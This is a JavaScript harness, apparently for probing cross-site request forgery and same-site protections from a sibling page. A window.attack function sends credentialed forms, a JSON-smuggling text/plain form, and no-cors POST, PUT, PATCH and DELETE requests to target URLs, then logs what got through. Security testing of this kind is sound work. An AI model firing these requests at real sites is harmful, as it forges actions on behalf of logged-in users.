// What the sibling's page does. Each function takes the addresses and tells what it could see.
(() => {
  const inBatches = async (items, size, work) => {
    const told = [];
    for (let start = 0; start < items.length; start += size) {
      told.push(...(await Promise.all(items.slice(start, start + size).map(work))));
    }
    return told;
  };
  const patience = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
  const loaded = (element, parent) =>
    Promise.race([
      new Promise((done) => {
        element.onload = () => done("loaded");
        element.onerror = () => done("blocked");
        parent.append(element);
      }),
      patience(8000).then(() => "late"),
    ]);
  const made = (tag, values) => Object.assign(document.createElement(tag), values);

  const form = async (url, fields, enctype) => {
    const name = `frame${Math.random()}`;
    const frame = made("iframe", { name });
    await loaded(frame, document.body);
    const sent = made("form", { action: url, method: "post", target: name, enctype });
    for (const [key, value] of Object.entries(fields)) {
      sent.append(made("input", { type: "hidden", name: key, value }));
    }
    document.body.append(sent);
    const answer = new Promise((done) => (frame.onload = () => done("sent")));
    sent.submit();
    await Promise.race([answer, patience(8000)]);
    frame.remove();
    sent.remove();
    return "sent";
  };
  const call = async (url, options) => {
    try {
      const answer = await fetch(url, { credentials: "include", redirect: "follow", ...options });
      return answer.type === "opaque" ? "opaque" : `read ${(await answer.text()).length}`;
    } catch {
      return "blocked";
    }
  };
  const json = (fields) => JSON.stringify(fields);
  const program = { "Content-Type": "application/json", "X-Requested-With": "XMLHttpRequest" };
  const ways = {
    form: (url, fields) => form(url, fields, "application/x-www-form-urlencoded"),
    multipart: (url, fields) => form(url, fields, "multipart/form-data"),
    plain: (url, fields) => form(url, { [`${json(fields).slice(0, -1)},"x":"`]: '"}' }, "text/plain"),
    nocors: (url, fields) => call(url, { method: "POST", mode: "no-cors", body: json(fields) }),
    urlencoded: (url, fields) =>
      call(url, { method: "POST", mode: "no-cors", body: new URLSearchParams(fields) }),
    cors: (url, fields) => call(url, { method: "POST", body: new URLSearchParams(fields) }),
    json: (url, fields) => call(url, { method: "POST", headers: program, body: json(fields) }),
    put: (url, fields) => call(url, { method: "PUT", headers: program, body: json(fields) }),
    patch: (url, fields) => call(url, { method: "PATCH", headers: program, body: json(fields) }),
    delete: (url) => call(url, { method: "DELETE", headers: program }),
    beacon: async (url, fields) => {
      navigator.sendBeacon(url, new Blob([json(fields)], { type: "text/plain" }));
      return "sent";
    },
    image: (url) => loaded(made("img", { src: url }), document.body),
    script: (url) => loaded(made("script", { src: url }), document.head),
    style: (url) => loaded(made("link", { rel: "stylesheet", href: url }), document.head),
    prefetch: (url) => loaded(made("link", { rel: "prefetch", href: url }), document.head),
    fetched: (url) => call(url, { mode: "no-cors" }),
    asked: (url) => call(url, {}),
    told: (url) => call(url, { headers: { Authorization: "Bearer x" } }),
    video: (url) => {
      const video = made("video", { src: url, preload: "metadata" });
      return Promise.race([
        new Promise((done) => {
          video.onloadedmetadata = () => done("loaded");
          video.onerror = () => done("blocked");
          document.body.append(video);
        }),
        patience(8000).then(() => "late"),
      ]);
    },
    frame: (url) => loaded(made("iframe", { src: url }), document.body),
  };
  window.attack = (targets, fields) =>
    inBatches(targets, 6, async ([way, url]) => [way, url, await ways[way](url, fields)]);
})();
